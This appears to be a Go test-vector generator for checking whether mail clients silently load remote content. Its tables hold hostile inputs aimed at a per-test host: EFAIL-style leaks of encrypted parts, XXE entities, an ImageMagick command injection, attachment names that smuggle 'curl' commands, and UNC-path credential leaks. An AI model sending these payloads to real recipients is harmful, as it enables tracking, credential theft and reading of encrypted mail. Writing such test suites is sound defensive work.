package quiet

import (
	"strings"
	"unicode/utf16"
)

const html = "Content-Type: text/html; charset=utf-8\n"

// fields of the header that name an address somebody may go to by themselves.
var fields = []string{
	"Disposition-Notification-To: <a@§>", "Return-Receipt-To: a@§", "X-Confirm-Reading-To: a@§", "X-PMRQC: 1\nX-Confirm-Delivery-To: a@§", "Generate-Delivery-Report: a@§", "Notice-Requested-Upon-Delivery-To: a@§",
	"Disposition-Notification-To: a@§\nDisposition-Notification-Options: signed-receipt-protocol=required,pkcs7-signature", "Errors-To: a@§", "Original-Recipient: rfc822;a@§",
	"List-Unsubscribe: <https://§/u>", "List-Unsubscribe: <https://§/u>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-Unsubscribe: <mailto:u@§?subject=x>", "List-Help: <https://§/>", "List-Archive: <https://§/>", "List-Owner: <https://§/>", "List-Post: <https://§/>", "Archived-At: <https://§/1>",
	"Content-Base: https://§/", "Content-Location: https://§/m.html", "X-Image-URL: https://§/face.png", "Face: https://§", "X-Face: https://§/x", "BIMI-Location: v=BIMI1; l=https://§/l.svg", "BIMI-Selector: v=BIMI1; s=§", "BIMI-Indicator: PHN2ZyBocmVmPSJodHRwczovL8KnIi8+ §",
	"X-Avatar: https://§/a.png", "X-Gravatar: https://§/a", "Organization: <img src=https://§/>", "Link: <https://§/>; rel=preload", "Refresh: 0;url=https://§/", "Location: https://§/", "Set-Cookie: a=b; domain=§", "Report-To: {\"endpoints\":[{\"url\":\"https://§\"}]}", "NEL: {\"report_to\":\"§\"}",
	"OpenPGP: url=https://§/k.asc; id=1", "Autocrypt: addr=a@§; keydata=AAAA", "Autocrypt-Gossip: addr=a@§; keydata=AAAA", "X-PGP-Key: https://§/k", "X-PGP-URL: https://§/", "DKIM-Signature: v=1; a=rsa-sha256; d=§; s=s; h=from; bh=AA==; b=AA==", "ARC-Seal: i=1; a=rsa-sha256; d=§; s=s; cv=none; b=AA==", "Received-SPF: pass (x) client-ip=192.0.2.1; helo=§",
	"Received: from § (§ [192.0.2.1]) by b.example; Thu, 26 Nov 2026 09:00:00 +0000", "Content-Features: https://§/", "X-Schema: https://§/", "Alternates: https://§/", "P3P: policyref=\"https://§/\"", "Jabber-ID: a@§", "URL: https://§/", "Feed-Url: https://§/", "X-Mailer: https://§/", "Subject: =?utf-8?q?=3Cimg_src=3D=22https://§/=22=3E?=",
	"From: \"<img src='https://§/'>\" <a@§>", "Reply-To: a@§", "Sender: a@§", "Resent-From: a@§", "In-Reply-To: <https://§/>", "Message-ID: <https://§/>", "References: <1@§>", "Precedence: §", "Auto-Submitted: no; §", "Expires: §", "X-Microsoft-Classified: §", "X-MS-Exchange-Organization-SCL: https://§", "Authentication-Results: §; dkim=pass",
}

// structures are whole messages whose parts are the trick.
var structures = []struct{ name, mail string }{
	{"external body by URL", "Content-Type: message/external-body; access-type=URL; URL=\"https://§/x.txt\"\n\nContent-Type: text/plain\n\n"},
	{"external body by ftp", "Content-Type: message/external-body; access-type=anon-ftp; site=\"§\"; name=\"x\"; directory=\"d\"\n\nContent-Type: image/gif\n\n"},
	{"external body by tftp", "Content-Type: message/external-body; access-type=tftp; site=\"§\"; name=\"x\"\n\nContent-Type: image/gif\n\n"},
	{"external body of a file", "Content-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"; site=\"§\"\n\nContent-Type: text/plain\n\n"},
	{"external body by mail", "Content-Type: message/external-body; access-type=mail-server; server=\"a@§\"\n\nContent-Type: text/plain\n\nsubscribe x\n"},
	{"external body of content", "Content-Type: message/external-body; access-type=content-id; cid=\"https://§\"\n\nContent-Type: text/html\n\n"},
	{"calendar", "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nUID:1\nDTSTART:20261201T100000Z\nSUMMARY:x\nATTACH:https://§/a.pdf\nATTACH;VALUE=URI:file:////§/x\nIMAGE;VALUE=URI:https://§/i.png\nURL:https://§/\nCONFERENCE;VALUE=URI:https://§/c\nORGANIZER:mailto:a@§\nATTENDEE;RSVP=TRUE:mailto:you@b.example\nEND:VEVENT\nEND:VCALENDAR\n"},
	{"calendar with an alarm", "Content-Type: text/calendar\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nUID:1\nDTSTART:20261126T090000Z\nBEGIN:VALARM\nACTION:PROCEDURE\nTRIGGER:-PT0S\nATTACH;FMTTYPE=application/binary:ftp://§/felt\nEND:VALARM\nBEGIN:VALARM\nACTION:AUDIO\nTRIGGER:-PT0S\nATTACH;VALUE=URI:https://§/bell.au\nEND:VALARM\nEND:VEVENT\nBEGIN:VTIMEZONE\nTZID:x\nTZURL:https://§/tz\nEND:VTIMEZONE\nEND:VCALENDAR\n"},
	{"calendar that alters", "Content-Type: text/calendar; method=PUBLISH\n\nBEGIN:VCALENDAR\nSOURCE:https://§/feed.ics\nREFRESH-INTERVAL;VALUE=DURATION:PT1M\nBEGIN:VEVENT\nALTREP=\"https://§\":x\nDESCRIPTION;ALTREP=\"cid:x\":<img src=https://§/>\nX-ALT-DESC;FMTTYPE=text/html:<img src=\"https://§/\">\nEND:VEVENT\nEND:VCALENDAR\n"},
	{"card", "Content-Type: text/vcard\n\nBEGIN:VCARD\nVERSION:4.0\nFN:x\nPHOTO:https://§/p.jpg\nLOGO;VALUE=uri:https://§/l\nSOUND:https://§/s\nKEY:https://§/k\nSOURCE:https://§/c.vcf\nFBURL:https://§/fb\nEND:VCARD\n"},
	{"directory", "Content-Type: text/directory; source=\"ldap://§/\"\n\nsource:ldap://§/cn=x\n"},
	{"signed by another way", "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha256; boundary=b\n\n--b\n" + html + "\n<img src=https://§/>\n--b\nContent-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\nComment: https://§/\n\nAAAA\n-----END PGP SIGNATURE-----\n--b--\n"},
	{"encrypted, read out by a picture", "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + html + "\n<img src=\"https://§/\n--b\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\n--b\n" + html + "\n\">\n--b--\n"},
	{"encrypted, read out by a style", "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + html + "\n<style>p{background:url('https://§/?\n--b\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=c\n\n--c\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--c\nContent-Type: application/octet-stream\n\n-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n--c--\n--b\n" + html + "\n')}</style><p>x\n--b--\n"},
	{"encrypted, read out by a form", "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + html + "\n<form action=https://§/><textarea name=x>\n--b\nContent-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nAAAA\n-----END PGP MESSAGE-----\n--b\n" + html + "\n</textarea><input type=image src=https://§/>\n--b--\n"},
	{"certificate that names places", "Content-Type: application/pkcs7-mime; smime-type=signed-data\nContent-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHAqCAMIACAQExADCABgkqhkiG9w0BBwEAAKCAMIIB\n"},
	{"key from elsewhere", "Content-Type: application/pgp-keys\n\n-----BEGIN PGP PUBLIC KEY BLOCK-----\nComment: hkps://§\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n"},
	{"partial", "Content-Type: message/partial; id=\"1@§\"; number=1; total=2\n\n" + html + "\n<img src=https://§/>\n"},
	{"message in a message", "Content-Type: message/rfc822\n\nFrom: a@§\nDisposition-Notification-To: a@§\n" + html + "\n<img src=https://§/>\n"},
	{"message in a message, three deep", "Content-Type: message/rfc822\n\nContent-Type: message/rfc822\n\nContent-Type: message/rfc822\n\n" + html + "\n<img src=https://§/><script src=https://§/></script>\n"},
	{"message in UTF-8", "Content-Type: message/global\n\nFrom: a@§\n" + html + "\n<iframe src=https://§/>\n"},
	{"digest", "Content-Type: multipart/digest; boundary=b\n\n--b\n\n" + html + "\n<img src=https://§/>\n--b--\n"},
	{"report of a message", "Content-Type: multipart/report; report-type=disposition-notification; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n--b\nContent-Type: message/disposition-notification\n\nReporting-UA: §\nFinal-Recipient: rfc822;a@§\nDisposition: automatic-action/MDN-sent-automatically; displayed\n--b\nContent-Type: message/rfc822\n\nDisposition-Notification-To: a@§\n\nx\n--b--\n"},
	{"location of each part", "Content-Type: multipart/related; boundary=b; type=\"text/html\"; start=\"<r@a>\"\nContent-Base: https://§/\n\n--b\n" + html + "Content-ID: <r@a>\nContent-Location: https://§/m.html\n\n<img src=p.png><img src=\"https://§/p.png\"><link rel=stylesheet href=s.css>\n--b\nContent-Type: text/css\nContent-Location: https://§/s.css\n\n@import 'https://§/t.css';\n--b--\n"},
	{"frame of a part", "Content-Type: multipart/related; boundary=b\n\n--b\n" + html + "\n<iframe src=cid:f@a></iframe><object data=cid:f@a></object><img src=cid:s@a><embed src=cid:s@a>\n--b\n" + html + "Content-ID: <f@a>\n\n<img src=https://§/><script>location='https://§'</script>\n--b\nContent-Type: image/svg+xml\nContent-ID: <s@a>\n\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://§')\"><image href=\"https://§/\"/></svg>\n--b--\n"},
	{"picture that is a drawing", "Content-Type: multipart/related; boundary=b\n\n--b\n" + html + "\n<img src=cid:s@a>\n--b\nContent-Type: image/png\nContent-ID: <s@a>\n\n<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"https://§/\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://§/\"/>&x;</svg>\n--b--\n"},
	{"picture for a script of old", "Content-Type: multipart/related; boundary=b\n\n--b\n" + html + "\n<img src=cid:s@a>\n--b\nContent-Type: image/png\nContent-ID: <s@a>\n\npush graphic-context\nviewbox 0 0 640 480\nfill 'url(https://§/\"|touch \"/tmp/x)'\npop graphic-context\n--b--\n"},
	{"drawing as the body", "Content-Type: image/svg+xml\n\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://§/\"/><script href=\"https://§/\"/></svg>\n"},
	{"XHTML", "Content-Type: application/xhtml+xml\n\n<?xml-stylesheet href=\"https://§/\"?><!DOCTYPE html [<!ENTITY x SYSTEM \"https://§/\">]><html xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"https://§/\"/>&x;</html>\n"},
	{"XML", "Content-Type: text/xml\n\n<?xml version=\"1.0\"?><!DOCTYPE x PUBLIC \"x\" \"https://§/x.dtd\" [<!ENTITY % p SYSTEM \"https://§/\">%p;]><x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"https://§/\"/></x>\n"},
	{"feed", "Content-Type: application/rss+xml\n\n<rss><channel><image><url>https://§/</url></image><cloud domain=\"§\"/></channel></rss>\n"},
	{"enriched", "Content-Type: text/enriched\n\n<x-img src=\"https://§/\"><bold>x</bold>\n"},
	{"rich text", "Content-Type: text/rtf\n\n{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \"https://§/\"}}{\\*\\template \\\\\\\\§\\\\x.dot}{\\object\\objautlink\\objupdate{\\*\\objdata 01}}}\n"},
	{"AMP", "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n--b\nContent-Type: text/x-amp-html\n\n<!doctype html><html amp4email><script async src=\"https://§/v0.js\"></script><amp-img src=\"https://§/\"></amp-img><amp-list src=\"https://§/l\"></amp-list></html>\n--b--\n"},
	{"watch", "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/watch-html\n\n<img src=https://§/>\n--b\n" + html + "\n<img src=https://§/>\n--b--\n"},
	{"mixed replace", "Content-Type: multipart/x-mixed-replace; boundary=b\n\n--b\n" + html + "\n<meta http-equiv=refresh content='0;url=https://§/'>\n--b\n" + html + "\n<img src=https://§/>\n--b--\n"},
	{"attached page shown inline", "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n--b\n" + html + "Content-Disposition: inline; filename=x.html\n\n<img src=https://§/>\n--b\nContent-Type: text/html; name=y.html\nContent-Disposition: attachment\n\n<script src=https://§/></script>\n--b--\n"},
	{"shortcut", "Content-Type: application/x-mswinurl; name=x.url\nContent-Disposition: attachment; filename=x.url\n\n[InternetShortcut]\nURL=https://§/\nIconFile=\\\\§\\x.ico\nIconIndex=1\n"},
	{"desktop entry", "Content-Type: application/x-desktop; name=x.desktop\n\n[Desktop Entry]\nType=Application\nExec=curl https://§/\nIcon=https://§/i.png\n"},
	{"link of a shell", "Content-Type: application/x-ms-shortcut; name=x.lnk\nContent-Transfer-Encoding: base64\n\nTAAAAAEUAgAAAAAAwAAAAAAAAEY=\n"},
	{"library of Windows", "Content-Type: application/windows-library+xml; name=x.library-ms\n\n<libraryDescription><searchConnectorDescriptionList><simpleLocation><url>\\\\§\\x</url></simpleLocation></searchConnectorDescriptionList></libraryDescription>\n"},
	{"play list", "Content-Type: audio/x-mpegurl; name=x.m3u\n\n#EXTM3U\nhttps://§/a.mp3\n"},
	{"sound", "Content-Type: audio/x-scpls\n\n[playlist]\nFile1=https://§/a\nNumberOfEntries=1\n"},
	{"SMIL", "Content-Type: application/smil\n\n<smil><body><img src=\"https://§/\"/><audio src=\"https://§/\"/></body></smil>\n"},
	{"remote printer", "Content-Type: application/ipp\n\n§\n"},
	{"PDF", "Content-Type: application/pdf\n\n%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(https://§/)>>/AA<</O<</S/SubmitForm/F(https://§/)>>>>>>endobj\n"},
	{"document with a template", "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document; name=x.docx\nContent-Transfer-Encoding: base64\n\nUEsDBBQAAAAIAA==\n"},
	{"flowed text with addresses", "Content-Type: text/plain; format=flowed\n\nhttps://§/ www.§ mailto:a@§ <img src=https://§/>\n"},
	{"text that says it is HTML", "Content-Type: text/plain\n\n<html><img src=https://§/><script src=https://§/></script></html>\n"},
	{"no type", "\n<html><img src=https://§/></html>\n"},
	{"two types", "Content-Type: text/plain\nContent-Type: text/html\n\n<img src=https://§/>\n"},
	{"type in capitals with a comment", "Content-Type: (x) TEXT/HTML (y); CHARSET=\"us-ascii\"\n\n<img src=https://§/>\n"},
	{"name that runs", "Content-Type: text/plain; name=\"|curl https://§/\"\nContent-Disposition: attachment; filename=\"$(curl https://§/).txt\"\n\nx\n"},
	{"name that leads elsewhere", "Content-Type: text/plain; name=\"\\\\\\\\§\\\\share\\\\x\"\nContent-Disposition: attachment; filename*=utf-8''%2f%2f§%2fx\n\nx\n"},
	{"uuencoded page", "Content-Type: text/plain\n\nbegin 644 x.html\n5/&EM9R!S<F,]:'1T<',Z+R]X/@``\n`\nend\nhttps://§/\n"},
	{"mailbox of old", "Content-Type: application/mbox\n\nFrom a@§ Thu Nov 26 09:00:00 2026\n" + html + "\n<img src=https://§/>\n"},
	{"HTTP in a part", "Content-Type: message/http\n\nGET / HTTP/1.1\nHost: §\n\n"},
	{"SIP in a part", "Content-Type: message/sip\n\nINVITE sip:a@§ SIP/2.0\n\n"},
	{"update of software", "Content-Type: application/vnd.ms-appinstaller\n\n<AppInstaller Uri=\"https://§/\"/>\n"},
	{"sharing", "Content-Type: application/x-sharing-metadata-xml\n\n<SharingMessage xmlns=\"http://schemas.microsoft.com/sharing/2008\"><Browse href=\"https://§/\"/></SharingMessage>\n"},
	{"voting", "Content-Type: text/html\nContent-Class: urn:content-classes:message\n\n<a href=outlook:§>x</a><img src=https://§/>\n"},
	{"task that sets a sound", "Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+IgAAAQaQCAAEAAAAAAABAAEAAQeQBgAIAAAA5AQAAAAAAADoAAE=\n"},
}

// letters are ways to send the same HTML.
var letters = []struct {
	name string
	do   func(html string) string
}{
	{"base64", func(h string) string { return html + "Content-Transfer-Encoding: base64\n\n" + base64Lines(h) + "\n" }},
	{"quoted", func(h string) string {
		return html + "Content-Transfer-Encoding: quoted-printable\n\n" + strings.NewReplacer("<", "=3C", "=", "=3D").Replace(h) + "\n"
	}},
	{"UTF-7", func(h string) string {
		return "Content-Type: text/html; charset=utf-7\n\n" + strings.NewReplacer("<", "+ADw-", ">", "+AD4-", `"`, "+ACI-").Replace(h) + "\n"
	}},
	{"UTF-16", func(h string) string {
		return "Content-Type: text/html; charset=utf-16le\nContent-Transfer-Encoding: base64\n\n" + base64Lines(wide(h)) + "\n"
	}},
	{"an unknown charset", func(h string) string { return "Content-Type: text/html; charset=x-none\n\n" + h + "\n" }},
	{"an unknown encoding", func(h string) string { return html + "Content-Transfer-Encoding: x-none\n\n" + h + "\n" }},
	{"with NUL", func(h string) string { return html + "\n" + strings.ReplaceAll(h, "https", "ht\x00tps") + "\n" }},
	{"alternatives", func(h string) string {
		return "Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nx\n--b\n" + html + "\n" + h + "\n--b--\n"
	}},
	{"an unfinished part", func(h string) string { return "Content-Type: multipart/mixed; boundary=b\n\n--b\n" + html + "\n" + h }},
	{"a part without a boundary", func(h string) string { return "Content-Type: multipart/mixed\n\n" + html + "\n" + h + "\n" }},
	{"the preamble", func(h string) string {
		return "Content-Type: multipart/mixed; boundary=b\n\n" + h + "\n--b\nContent-Type: text/plain\n\nx\n--b--\n" + h
	}},
}

func (v *vectors) parts() {
	for _, f := range fields {
		host := v.host()
		name, _, _ := strings.Cut(f, ":")
		v.mail("field: "+name, host, strings.ReplaceAll(f, "§", host)+"\n"+strings.ReplaceAll(head, "\r\n", "\n")+html+"\n<p>x</p>\n")
	}
	for _, s := range structures {
		host := v.host()
		v.mail("part: "+s.name, host, strings.ReplaceAll(head, "\r\n", "\n")+strings.ReplaceAll(s.mail, "§", host))
	}
	for _, l := range letters {
		for _, e := range []string{`<img src="https://§/p.png">`, `<style>@import "https://§/s.css";</style><p>x`, `<script src="https://§/s.js"></script>`} {
			host := v.host()
			v.mail("letter: "+l.name, host, strings.ReplaceAll(head, "\r\n", "\n")+l.do(strings.ReplaceAll(e, "§", host)))
		}
	}
}

// wide is text in UTF-16.
func wide(s string) string {
	var out strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		out.WriteByte(byte(u))
		out.WriteByte(byte(u >> 8))
	}
	return out.String()
}
